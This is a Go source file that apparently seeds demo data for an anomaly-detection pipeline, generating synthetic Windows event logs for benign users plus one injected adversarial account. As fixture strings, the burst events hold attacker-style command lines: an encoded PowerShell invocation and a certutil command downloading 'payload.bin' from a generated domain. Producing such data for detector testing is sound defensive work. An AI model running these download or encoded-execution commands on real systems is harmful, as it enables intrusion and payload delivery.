// Package seeder generates realistic demo event populations: a set of users
// with benign activity across the window plus one injected noisy account, so
// a local pipeline run has something to flag.
package seeder

import (
	"fmt"
	"math/rand"
	"sort"
	"time"

	"github.com/brianvoe/gofakeit/v6"
	"github.com/strixlabs/strix-anomaly/internal/features"
	"github.com/strixlabs/strix-anomaly/internal/models"
)

// Config controls the generated population.
type Config struct {
	Users         int
	EventsPerUser int
	TimeSpread    time.Duration
	Seed          int64

	// AnomalousUser receives a concentrated burst of failed logons, LOLBin
	// executions, and suspicious command lines near the end of the window.
	AnomalousUser string
	BurstEvents   int
}

// DefaultConfig returns a population sized for a quick demo.
func DefaultConfig() Config {
	return Config{
		Users:         20,
		EventsPerUser: 120,
		TimeSpread:    7 * 24 * time.Hour,
		Seed:          time.Now().UnixNano(),
		AnomalousUser: "eve.adversary",
		BurstEvents:   80,
	}
}

var benignProcesses = []string{
	"svchost.exe", "explorer.exe", "chrome.exe", "outlook.exe",
	"teams.exe", "winword.exe", "services.exe",
}

var benignSources = []string{
	"Microsoft-Windows-Security-Auditing", "Service Control Manager",
	"Microsoft-Windows-Sysmon", "Application Error",
}

// Generate produces the event population, oldest first.
func Generate(cfg Config) []models.EventRecord {
	rng := rand.New(rand.NewSource(cfg.Seed))
	faker := gofakeit.New(cfg.Seed)
	now := time.Now()

	events := make([]models.EventRecord, 0, cfg.Users*cfg.EventsPerUser+cfg.BurstEvents)

	for u := 0; u < cfg.Users; u++ {
		user := faker.Username()
		for i := 0; i < cfg.EventsPerUser; i++ {
			ts := eventTime(rng, now, cfg.TimeSpread, i, cfg.EventsPerUser)
			events = append(events, benignEvent(rng, user, ts))
		}
	}

	if cfg.AnomalousUser != "" && cfg.BurstEvents > 0 {
		burstWindow := 2 * time.Hour
		for i := 0; i < cfg.BurstEvents; i++ {
			ts := eventTime(rng, now, burstWindow, i, cfg.BurstEvents)
			events = append(events, burstEvent(rng, faker, cfg.AnomalousUser, ts))
		}
	}

	sortByTime(events)
	return events
}

// eventTime spreads events across the window going backwards from now, with
// jitter so activity does not look metronomic.
func eventTime(rng *rand.Rand, now time.Time, spread time.Duration, index, total int) time.Time {
	baseInterval := float64(spread) / float64(total)
	baseOffset := time.Duration(float64(index) * baseInterval)

	jitter := time.Duration((rng.Float64()*2 - 1) * baseInterval * 0.4)
	offset := baseOffset + jitter
	if offset < 0 {
		offset = 0
	}
	if offset > spread {
		offset = spread
	}
	return now.Add(-(spread - offset))
}

func benignEvent(rng *rand.Rand, user string, ts time.Time) models.EventRecord {
	severity := "Information"
	if rng.Float64() < 0.05 {
		severity = "Warning"
	}

	return models.EventRecord{
		Time:     ts.Format(time.RFC3339),
		Channel:  "System",
		Severity: severity,
		User:     user,
		Process:  benignProcesses[rng.Intn(len(benignProcesses))],
		Details:  "The operation completed successfully.",
		Source:   benignSources[rng.Intn(len(benignSources))],
		EventID:  7036,
	}
}

func burstEvent(rng *rand.Rand, faker *gofakeit.Faker, user string, ts time.Time) models.EventRecord {
	switch rng.Intn(3) {
	case 0:
		return models.EventRecord{
			Time:     ts.Format(time.RFC3339),
			Channel:  features.ChannelSecurity,
			Severity: "Audit Failure",
			User:     user,
			Process:  "lsass.exe",
			Details:  fmt.Sprintf("An account failed to log on. Workstation: %s", faker.Word()),
			Source:   "Microsoft-Windows-Security-Auditing",
			EventID:  features.EventIDFailedLogon,
		}
	case 1:
		return models.EventRecord{
			Time:        ts.Format(time.RFC3339),
			Channel:     features.ChannelSysmon,
			Severity:    "Information",
			User:        user,
			Process:     "powershell.exe",
			Details:     "Process Create",
			Source:      "Microsoft-Windows-Sysmon",
			EventID:     features.EventIDProcessCreate,
			Image:       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
			CommandLine: "powershell -EncodedCommand JABzAD0A --strix-demo",
			ParentImage: `C:\Windows\System32\cmd.exe`,
		}
	default:
		return models.EventRecord{
			Time:            ts.Format(time.RFC3339),
			Channel:         features.ChannelSysmon,
			Severity:        "Information",
			User:            user,
			Process:         "certutil.exe",
			Details:         "Network connection detected",
			Source:          "Microsoft-Windows-Sysmon",
			EventID:         features.EventIDNetworkConnect,
			Image:           `C:\Windows\System32\certutil.exe`,
			CommandLine:     fmt.Sprintf("certutil -urlcache -f http://%s/payload.bin", faker.DomainName()),
			DestinationIP:   faker.IPv4Address(),
			DestinationPort: "443",
		}
	}
}

func sortByTime(events []models.EventRecord) {
	sort.Slice(events, func(i, j int) bool { return events[i].Time < events[j].Time })
}
